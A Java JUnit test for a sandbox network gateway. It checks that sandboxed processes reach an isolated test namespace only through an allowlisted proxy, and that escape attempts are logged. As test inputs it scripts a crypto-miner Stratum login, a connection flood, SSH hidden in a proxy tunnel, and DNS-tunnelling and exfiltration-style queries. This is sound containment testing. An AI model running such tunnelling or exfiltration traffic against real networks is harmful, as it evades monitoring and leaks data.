package dev.ale.gateway;

import dev.ale.core.host.OwnTree;
import dev.ale.core.net.ConnectionRecord;
import dev.ale.core.net.DatagramRecord;
import dev.ale.core.net.DnsRecord;
import dev.ale.core.net.DropRecord;
import dev.ale.core.net.NetworkRecord;
import dev.ale.core.net.ProxyRecord;
import dev.ale.core.passport.ByteSize;
import dev.ale.core.passport.EgressRule;
import dev.ale.core.passport.EgressRules;
import dev.ale.core.passport.Passport;
import dev.ale.core.passport.Phase;
import dev.ale.core.passport.Resources;
import dev.ale.core.sandbox.ExecRequest;
import dev.ale.core.sandbox.ExecResult;
import dev.ale.core.sandbox.Sandbox;
import dev.ale.core.sandbox.SandboxNetwork;
import dev.ale.core.sandbox.SandboxRequest;
import dev.ale.gateway.net.Drops;
import dev.ale.gateway.net.GatewayNetwork;
import dev.ale.gateway.net.SandboxLink;
import dev.ale.sandbox.local.LocalSandboxBackend;
import java.io.IOException;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.net.SocketException;
import java.net.UnknownHostException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ThreadLocalRandom;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import java.util.Arrays;
import java.util.Optional;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Real sandboxes behind a real gateway (with the real DNS server and proxy until the
 * real ones land). Everything runs in the test JVM's own network namespace
 * (scripts/java-in-netns); the "outside" is one more namespace this test makes and links to it,
 * holding 203.0.113.1 (TEST-NET-3). No packet goes anywhere else.
 */
@Tag("root")
class GatewayContainmentTest {

    private static final Resources SMALL =
            new Resources(1.0, ByteSize.parse("256MiB"), 128, Duration.ofMinutes(2), ByteSize.parse("64MiB"));
    private static final String OUTSIDE_ADDRESS = "203.0.113.1";
    private static final String TEST_SIDE_ADDRESS = "203.0.113.2";
    private static final String ALLOWED_NAME = "allowed.test";
    private static final int ALLOWED_PORT = 8080;

    private static final List<NetworkRecord> records = new CopyOnWriteArrayList<>();
    private static Gateway gateway;
    private static LocalSandboxBackend backend;
    private static Path dataDir;
    private static String outside;
    private static String outsideLink;
    private static Process outsideServer;
    private static String ipForwardBefore;
    private final List<Sandbox> sandboxes = new ArrayList<>();

    @BeforeAll
    static void start() throws IOException {
        Assumptions.assumeTrue(Host.isRoot(), "the gateway and the local backend need root");
        HostResolver pinned = new HostResolver() {
            @Override
            public List<InetAddress> resolve(String name) throws UnknownHostException {
                if (name.equals(ALLOWED_NAME)) return List.of(InetAddress.ofLiteral(OUTSIDE_ADDRESS));
                throw new UnknownHostException(name);
            }

            @Override
            public boolean isPinned(String name) {
                return name.equals(ALLOWED_NAME);
            }
        };
        gateway = Gateway.start(Gateway.Config.defaults().withResolver(pinned),
                records::add);
        dataDir = Files.createTempDirectory(Path.of("/tmp"), "ale-gw-test");
        backend = new LocalSandboxBackend(LocalSandboxBackend.Config.defaults().withDataDir(dataDir).withNetwork(gateway));
        makeOutside();
    }

    /** A namespace standing for the rest of the world, linked to the test JVM's namespace. */
    private static void makeOutside() throws IOException {
        String hex = HexFormat.of().toHexDigits((short) ThreadLocalRandom.current().nextInt());
        outside = "ale-t-out-" + hex;
        outsideLink = "ale-t-o" + hex;
        Host.run("ip", "netns", "add", outside);
        Host.run("ip", "link", "add", outsideLink, "type", "veth", "peer", "name", "eth0", "netns", outside);
        Host.run("ip", "addr", "add", TEST_SIDE_ADDRESS + "/24", "dev", outsideLink);
        Host.run("ip", "addr", "add", "2001:db8::2/64", "dev", outsideLink, "nodad");
        Host.run("ip", "link", "set", outsideLink, "up");
        Host.run("ip", "-n", outside, "addr", "add", OUTSIDE_ADDRESS + "/24", "dev", "eth0");
        Host.run("ip", "-n", outside, "addr", "add", "2001:db8::1/64", "dev", "eth0", "nodad");
        Host.run("ip", "-n", outside, "link", "set", "eth0", "up");
        Host.run("ip", "-n", outside, "link", "set", "lo", "up");
        // replies could find their way back to a sandbox: nothing but the gateway stands between
        Host.run("ip", "-n", outside, "route", "add", "default", "via", TEST_SIDE_ADDRESS);
        Host.Result counters = Host.tryRun(List.of("ip", "netns", "exec", outside, "nft", "-f", "-"), """
                table inet count {
                    counter from_sandboxes { }
                    counter from_anyone_but_the_gateway { }
                    counter ipv6_routable { }
                    counter from_the_gateway { }
                    chain everything {
                        type filter hook prerouting priority -300; policy accept;
                        ip saddr 198.18.0.0/15 counter name from_sandboxes
                        ip saddr != 203.0.113.2 counter name from_anyone_but_the_gateway
                        ip6 saddr != { ::, fe80::/10 } counter name ipv6_routable
                        ip saddr 203.0.113.2 counter name from_the_gateway
                    }
                }
                """);
        assertThat(counters.exitCode()).as(counters.output()).isZero();
        // worst case: the test namespace forwards whatever it is given
        Path forward = Path.of("/proc/sys/net/ipv4/ip_forward");
        ipForwardBefore = Files.readString(forward).strip();
        Files.writeString(forward, "1");
        Files.writeString(Path.of("/proc/sys/net/ipv6/conf/all/forwarding"), "1");
        outsideServer = new ProcessBuilder("ip", "netns", "exec", outside, "/usr/bin/python3", "-c", """
                import socket
                server = socket.socket()
                server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                server.bind(("203.0.113.1", 8080))
                server.listen(16)
                while True:
                    client, _ = server.accept()
                    client.settimeout(5)
                    try:
                        client.recv(4096)
                        client.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\nhello-from-outside\\n")
                    except OSError:
                        pass
                    client.close()
                """).redirectErrorStream(true).start();
        await().atMost(Duration.ofSeconds(20)).until(() ->
                Host.tryRun("ip", "netns", "exec", outside, "ss", "-ltnH").output().contains("203.0.113.1:8080"));
    }

    @AfterAll
    static void stop() throws IOException {
        try {
            if (backend != null) backend.close();
        } finally {
            try {
                if (gateway != null) gateway.close();
            } finally {
                if (outsideServer != null) {
                    outsideServer.destroyForcibly();
                    outsideServer.onExit().join();
                }
                if (outside != null) {
                    Host.tryRun("ip", "link", "del", outsideLink);
                    Host.tryRun("ip", "netns", "del", outside);
                }
                if (ipForwardBefore != null) {
                    Files.writeString(Path.of("/proc/sys/net/ipv4/ip_forward"), ipForwardBefore);
                    Files.writeString(Path.of("/proc/sys/net/ipv6/conf/all/forwarding"), "0");
                }
                if (dataDir != null) deleteTree(dataDir);
            }
        }
    }

    @AfterEach
    void destroySandboxes() {
        sandboxes.forEach(Sandbox::destroy);
        sandboxes.clear();
    }

    @Test
    void sshToAnOutsideAddressIsRecordedWithItsOriginalDestinationAndSandbox() {
        Sandbox s = sandbox();

        ExecResult r = bash(s, "exec 3<>/dev/tcp/203.0.113.77/22; printf 'SSH-2.0-OpenSSH_9.2\\r\\n' >&3; sleep 0.2");

        assertThat(r.exitCode()).as(r.toString()).isZero();
        ConnectionRecord c = awaitConnection(s.id(), 22);
        assertThat(c.destinationAddress()).isEqualTo("203.0.113.77");
        assertThat(c.protocol()).isEqualTo("ssh");
        assertThat(c.detail()).isEqualTo("SSH-2.0-OpenSSH_9.2");
        assertThat(c.firstBytes()).isEqualTo("SSH-2.0-OpenSSH_9.2\\r\\n");
    }

    @Test
    void twoSandboxesAtOnceAreEachAttributedTheirOwnConnections() {
        Sandbox a = sandbox();
        Sandbox b = sandbox();

        Thread other = Thread.ofVirtual().start(() -> bash(b, "exec 3<>/dev/tcp/198.51.100.9/3333; printf '"
                + "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"wallet\",\"pass\":\"x\",\"agent\":\"XMRig/6.21\"}}\\n' >&3; sleep 0.2"));
        bash(a, "exec 3<>/dev/tcp/203.0.113.77/2222; printf 'SSH-2.0-from-a\\r\\n' >&3; sleep 0.2");
        join(other);

        ConnectionRecord fromA = awaitConnection(a.id(), 2222);
        ConnectionRecord fromB = awaitConnection(b.id(), 3333);
        assertThat(fromA.protocol()).isEqualTo("ssh");
        assertThat(fromA.detail()).isEqualTo("SSH-2.0-from-a");
        assertThat(fromB.protocol()).isEqualTo("stratum");
        assertThat(fromB.destinationAddress()).isEqualTo("198.51.100.9");
        assertThat(records).filteredOn(rec -> rec instanceof ConnectionRecord cr && cr.destinationPort() == 3333)
                .allMatch(rec -> rec.sandbox().equals(b.id()));
    }

    @Test
    void oneSandboxFloodingTheSinkDoesNotHoldAnotherSandboxsSettle() {
        Sandbox flooder = sandbox();
        Sandbox other = sandbox();
        // silent connections, each held by the sink until its first-bytes deadline, opened until the sandbox is destroyed;
        // one process keeps them all open (a new descriptor each), so the sandbox's process limit does not end the flood
        Thread flood = Thread.ofVirtual().start(() -> {
            try {
                flooder.exec(ExecRequest.of("/bin/bash", "-c",
                        "while true; do exec {fd}<>/dev/tcp/203.0.113.50/4444; sleep 0.05; done")
                        .withTimeout(Duration.ofMinutes(3)));
            } catch (RuntimeException endedByDestroy) {
                // the sandbox is destroyed under it at the end of the test
            }
        });
        await().atMost(Duration.ofSeconds(60)).until(() -> !gateway.awaitQuiet(flooder.id(), Duration.ZERO));

        ExecResult own = bash(other, "exec 3<>/dev/tcp/203.0.113.77/2222; printf 'SSH-2.0-from-the-other\\r\\n' >&3");
        boolean otherQuiet = gateway.awaitQuiet(other.id(), Duration.ofMinutes(1));
        boolean flooderQuietAfter = gateway.awaitQuiet(flooder.id(), Duration.ZERO);

        assertThat(own.exitCode()).as(own.toString()).isZero();
        assertThat(otherQuiet).as("the other sandbox's own connection was recorded and it has none left at the sink").isTrue();
        assertThat(flooderQuietAfter).as("the flood was still at the sink when the other sandbox's settle returned").isFalse();
        assertThat(awaitConnection(other.id(), 2222).detail()).isEqualTo("SSH-2.0-from-the-other");
        destroy(flooder);
        join(flood);
    }

    @Test
    void packetsDroppedByTheFirstCallAreReportedAndACallThatSentNothingReportsNone() {
        Sandbox s = sandbox();

        ExecResult sent = bash(s, "for i in 1 2 3; do echo x > /dev/udp/203.0.113.9/9999; done");
        gateway.reportDrops(s.id());
        List<DropRecord> afterFirst = dropRecords(s.id());
        ExecResult quiet = bash(s, "true");
        gateway.reportDrops(s.id());

        assertThat(sent.exitCode()).as(sent.toString()).isZero();
        assertThat(quiet.exitCode()).as(quiet.toString()).isZero();
        assertThat(afterFirst).as("the first call's dropped datagrams").singleElement()
                .satisfies(d -> assertThat(d.packets()).isGreaterThanOrEqualTo(3));
        assertThat(dropRecords(s.id())).as("nothing new after a call that sent nothing").hasSize(1);
    }

    private static List<DropRecord> dropRecords(String sandbox) {
        return records.stream().filter(r -> r instanceof DropRecord d && d.sandbox().equals(sandbox)).map(DropRecord.class::cast).toList();
    }

    @Test
    void sandboxProcessesSeeTheProxyAndTheGatewaysResolver() {
        Sandbox s = sandbox();

        ExecResult env = s.exec(ExecRequest.of("/usr/bin/env"));
        ExecResult resolv = s.exec(ExecRequest.of("/bin/cat", "/etc/resolv.conf"));
        String session;
        try (var shell = s.openSession()) {
            session = shell.run("echo $HTTPS_PROXY").stdout();
        }

        assertThat(env.stdout().lines()).contains("HTTP_PROXY=http://198.18.0.1:3128", "HTTPS_PROXY=http://198.18.0.1:3128",
                "http_proxy=http://198.18.0.1:3128", "https_proxy=http://198.18.0.1:3128", "NO_PROXY=localhost,127.0.0.1,::1,198.18.0.1");
        assertThat(env.stdout()).as("no model route on this gateway: no model token").doesNotContain("OPENAI_");
        assertThat(resolv.stdout()).isEqualTo("nameserver 198.18.0.1\n");
        assertThat(session.strip()).isEqualTo("http://198.18.0.1:3128");
        assertThat(s.phase()).isEqualTo(Phase.AGENT);
        s.enterPhase(Phase.VERIFY);
        assertThat(s.phase()).isEqualTo(Phase.VERIFY);
        SandboxLink link = gateway.link(s.id()).orElseThrow();
        assertThat(gateway.bySource(link.sandboxAddress())).hasValueSatisfying(c -> assertThat(c.phase()).isEqualTo(Phase.VERIFY));
    }

    @Test
    void destroyLeavesNoLinkRulesOrSlot() {
        Sandbox s = sandbox();
        SandboxLink link = gateway.link(s.id()).orElseThrow();
        assertThat(interfaceExists(link.hostInterface())).isTrue();

        s.destroy();
        sandboxes.remove(s);

        // with a warm pool (the default) the teardown after the kill runs in the background
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> {
            assertLeftNothing(link);
            assertThat(gateway.link(s.id())).isEmpty();
        });
    }

    @Test
    void garbageCollectionRemovesWhatACrashedSandboxLeft() {
        Sandbox s = sandbox();
        SandboxLink link = gateway.link(s.id()).orElseThrow();
        // what a crash of the ALE process that made it leaves: a namespace deleted behind the gateway's back
        Host.run("ip", "netns", "del", link.netnsName());

        assertThat(gateway.collectGarbage()).isEmpty();

        assertLeftNothing(link);
    }

    @Test
    void nothingASandboxSendsReachesTheOutsideExceptThroughTheGatewaysOwnConnection() {
        Sandbox s = sandbox();
        SandboxLink link = gateway.link(s.id()).orElseThrow();
        // worst case inside too: unprivileged ICMP echo sockets allowed
        boolean icmp = Host.tryRun("ip", "netns", "exec", link.netnsName(), "sysctl", "-qw",
                "net.ipv4.ping_group_range=0 2147483647").exitCode() == 0;

        ExecResult attempts = s.exec(ExecRequest.of("/usr/bin/python3", "-c", """
                import socket
                results = []
                def attempt(label, action):
                    try:
                        action()
                        results.append(label + ":sent")
                    except OSError as e:
                        results.append(label + ":" + type(e).__name__)
                def tcp(host, port, data=b"hello\\n"):
                    c = socket.create_connection((host, port), timeout=3)
                    c.sendall(data)
                    c.close()
                def udp(host, port, family=socket.AF_INET):
                    u = socket.socket(family, socket.SOCK_DGRAM)
                    for _ in range(3):
                        u.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01a\\x00\\x00\\x01\\x00\\x01", (host, port))
                    u.close()
                def icmp(host):
                    p = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
                    for _ in range(3):
                        p.sendto(b"\\x08\\x00\\x00\\x00\\x00\\x01\\x00\\x01ale-icmp", (host, 0))
                    p.close()
                for port in (8080, 22, 443, 53):
                    attempt("tcp/%d" % port, lambda: tcp("203.0.113.1", port, b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"))
                attempt("tcp/test-side", lambda: tcp("203.0.113.2", 8080))
                for port in (9999, 123, 53):
                    attempt("udp/%d" % port, lambda: udp("203.0.113.1", port))
                attempt("udp/test-side", lambda: udp("203.0.113.2", 9999))
                attempt("udp/gateway", lambda: udp("198.18.0.1", 9999))
                attempt("icmp/outside", lambda: icmp("203.0.113.1"))
                attempt("icmp/gateway", lambda: icmp("198.18.0.1"))
                attempt("tcp6", lambda: tcp("2001:db8::1", 8080))
                attempt("udp6", lambda: udp("2001:db8::1", 9999, socket.AF_INET6))
                print(" ".join(results))
                """).withTimeout(Duration.ofSeconds(60)));
        System.out.println("containment attempts from " + s.id() + ": " + attempts.stdout().strip() + attempts.stderr().strip());

        List<String> tried = List.of(attempts.stdout().strip().split(" "));
        // TCP is accepted, by the sink: the sandbox cannot tell, and the sink records where it was going
        assertThat(tried).contains("tcp/8080:sent", "udp/9999:sent", "udp/53:sent");
        if (icmp) assertThat(tried).contains("icmp/outside:sent");
        assertThat(tried).filteredOn(t -> t.startsWith("tcp6") || t.startsWith("udp6")).allMatch(t -> !t.endsWith(":sent"));
        // two connections went to port 8080 (outside and test side); the sink may record them in either order
        ConnectionRecord http = awaitConnection(s.id(), OUTSIDE_ADDRESS, 8080);
        assertThat(http.protocol()).isEqualTo("http");
        await().atMost(Duration.ofSeconds(10)).untilAsserted(() ->
                assertThat(records).anyMatch(r -> r instanceof DnsRecord d && d.sandbox().equals(s.id())));
        await().atMost(Duration.ofSeconds(10)).untilAsserted(() ->
                assertThat(gateway.drops(s.id()).orElseThrow().packets()).isGreaterThanOrEqualTo(icmp ? 18 : 12));
        sleep(Duration.ofMillis(500)); // anything still in flight would have arrived by now
        assertThat(outsideCounter("from_sandboxes")).isZero();
        assertThat(outsideCounter("from_anyone_but_the_gateway")).isZero();
        assertThat(outsideCounter("ipv6_routable")).isZero();

        // the path out exists: a connection the gateway makes on the sandbox's behalf arrives
        long gatewayBefore = outsideCounter("from_the_gateway");
        ExecResult viaProxy = s.exec(ExecRequest.of("/usr/bin/curl", "-sS", "--proxytunnel", "--max-time", "15",
                "http://" + ALLOWED_NAME + ":" + ALLOWED_PORT + "/").withTimeout(Duration.ofSeconds(30)));
        ExecResult refused = s.exec(ExecRequest.of("/usr/bin/curl", "-sS", "--proxytunnel", "--max-time", "15",
                "http://" + ALLOWED_NAME + ":9999/").withTimeout(Duration.ofSeconds(30)));

        assertThat(viaProxy.stdout()).as(viaProxy.toString()).contains("hello-from-outside");
        assertThat(refused.exitCode()).isNotZero();
        assertThat(outsideCounter("from_the_gateway")).isGreaterThan(gatewayBefore);
        assertThat(outsideCounter("from_sandboxes")).isZero();
        assertThat(outsideCounter("from_anyone_but_the_gateway")).isZero();
        assertThat(records).filteredOn(rec -> rec instanceof ProxyRecord p && p.sandbox().equals(s.id()))
                .anySatisfy(rec -> assertThat(((ProxyRecord) rec).allowed()).isTrue())
                .anySatisfy(rec -> assertThat(((ProxyRecord) rec).refusal()).contains("not allowlisted"));
        Drops drops = gateway.drops(s.id()).orElseThrow();
        System.out.println("drops counted for " + s.id() + ": " + drops);
    }

    @Test
    void whatHidesInsideAnAllowedTunnelOrInPort53IsRecordedAsWhatItIs() {
        Sandbox s = sandbox();

        ExecResult r = s.exec(ExecRequest.of("/usr/bin/python3", "-c", """
                import socket, time
                tunnel = socket.create_connection(("198.18.0.1", 3128), timeout=20)
                tunnel.sendall(b"CONNECT allowed.test:8080 HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\n\\r\\n")
                head = b""
                while not head.endswith(b"\\r\\n\\r\\n"):
                    head += tunnel.recv(1)
                tunnel.sendall(b"SSH-2.0-OpenSSH_9.6\\r\\n")
                back = b""
                try:
                    while True:
                        data = tunnel.recv(4096)
                        if not data:
                            break
                        back += data
                except OSError:
                    pass
                print("tunnel", head.split(b"\\r\\n")[0].decode(), "then", len(back), "bytes")
                raw = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                raw.sendto(b"\\x00\\x10iodine-raw-mode", ("203.0.113.1", 53))
                raw.close()
                query = bytes([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 6]) + b"c2VjcmV" [:6] + bytes([7]) + b"example" + bytes([0, 0, 16, 0, 1])
                tcp = socket.create_connection(("203.0.113.1", 53), timeout=10)
                tcp.sendall(len(query).to_bytes(2, "big") + query)
                time.sleep(0.5)
                tcp.close()
                """).withTimeout(Duration.ofSeconds(60)));

        assertThat(r.stdout()).as(r.toString()).contains("tunnel HTTP/1.1 200 Connection established then 0 bytes");
        ProxyRecord tunnel = await().atMost(Duration.ofSeconds(20)).until(() -> records.stream()
                .filter(rec -> rec instanceof ProxyRecord p && p.sandbox().equals(s.id()) && p.refusal().isPresent())
                .map(ProxyRecord.class::cast).findFirst(), Optional::isPresent).orElseThrow();
        assertThat(tunnel.refusal()).hasValueSatisfying(reason -> assertThat(reason).startsWith("tunnel carried ssh"));
        assertThat(tunnel.upstreamAddress()).contains(OUTSIDE_ADDRESS);
        DatagramRecord raw = await().atMost(Duration.ofSeconds(20)).until(() -> records.stream()
                .filter(rec -> rec instanceof DatagramRecord d && d.sandbox().equals(s.id()))
                .map(DatagramRecord.class::cast).findFirst(), Optional::isPresent).orElseThrow();
        assertThat(raw.destinationAddress() + ":" + raw.destinationPort()).isEqualTo(OUTSIDE_ADDRESS + ":53");
        ConnectionRecord dns = awaitConnection(s.id(), OUTSIDE_ADDRESS, 53);
        assertThat(dns.protocol()).isEqualTo("dns");
        assertThat(dns.name()).contains("c2vjcm.example");
        sleep(Duration.ofMillis(500));
        assertThat(outsideCounter("from_sandboxes")).isZero();
        assertThat(outsideCounter("from_anyone_but_the_gateway")).isZero();
    }

    @Test
    void attachAndDetachCosts() {
        int rounds = 5;
        long[] attach = new long[rounds];
        long[] detach = new long[rounds];
        for (int i = 0; i < rounds; i++) {
            String netns = "ale-t-" + HexFormat.of().toHexDigits(ThreadLocalRandom.current().nextInt());
            Host.run("ip", "netns", "add", netns);
            try {
                long t0 = System.nanoTime();
                SandboxNetwork.NetworkAttachment a = gateway.attach(new SandboxNetwork.NetworkTarget(
                        "sb-cost" + i, netns, Passport.defaults(), Phase.AGENT));
                long t1 = System.nanoTime();
                a.close();
                long t2 = System.nanoTime();
                attach[i] = (t1 - t0) / 1000;
                detach[i] = (t2 - t1) / 1000;
            } finally {
                Host.tryRun("ip", "netns", "del", netns);
            }
        }
        System.out.println("gateway attach µs: " + Arrays.toString(attach) + ", detach µs: " + Arrays.toString(detach));
        assertThat(attach).hasSize(rounds);
    }

    private Sandbox sandbox() {
        Passport passport = Passport.defaults().withResources(SMALL)
                .withEgress(new EgressRules(Map.of(Phase.AGENT, List.of(new EgressRule(ALLOWED_NAME, List.of(ALLOWED_PORT))))));
        Sandbox s = backend.create(SandboxRequest.of(passport));
        sandboxes.add(s);
        return s;
    }

    private static ExecResult bash(Sandbox s, String script) {
        return s.exec(ExecRequest.of("/bin/bash", "-c", script).withTimeout(Duration.ofSeconds(30)));
    }

    private static ConnectionRecord awaitConnection(String sandbox, int port) {
        return awaitConnection(sandbox, null, port);
    }

    private static ConnectionRecord awaitConnection(String sandbox, String address, int port) {
        return await().atMost(Duration.ofSeconds(20)).until(() -> records.stream()
                .filter(r -> r instanceof ConnectionRecord c && c.sandbox().equals(sandbox) && c.destinationPort() == port
                        && (address == null || c.destinationAddress().equals(address)))
                .map(ConnectionRecord.class::cast).findFirst(), Optional::isPresent).orElseThrow();
    }

    private static long outsideCounter(String name) {
        String out = Host.run("ip", "netns", "exec", outside, "nft", "list", "counter", "inet", "count", name);
        Matcher m = Pattern.compile("packets (\\d+)").matcher(out);
        assertThat(m.find()).as(out).isTrue();
        return Long.parseLong(m.group(1));
    }

    private void assertLeftNothing(SandboxLink link) {
        assertThat(interfaceExists(link.hostInterface())).as("host link " + link.hostInterface()).isFalse();
        String table = Host.run("nft", "list", "table", "inet", "ale");
        assertThat(table).doesNotContain(link.id());
        assertThat(GatewayNetwork.DEFAULT_STATE_DIR.resolve("links").resolve(link.id())).doesNotExist();
    }

    private static boolean interfaceExists(String name) {
        try {
            return NetworkInterface.getByName(name) != null;
        } catch (SocketException e) {
            return false;
        }
    }

    private void destroy(Sandbox s) {
        sandboxes.remove(s);
        s.destroy();
    }

    private static void join(Thread t) {
        try {
            t.join(Duration.ofSeconds(60));
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private static void sleep(Duration d) {
        try {
            Thread.sleep(d);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private static void deleteTree(Path dir) {
        OwnTree.delete(dir);
    }
}
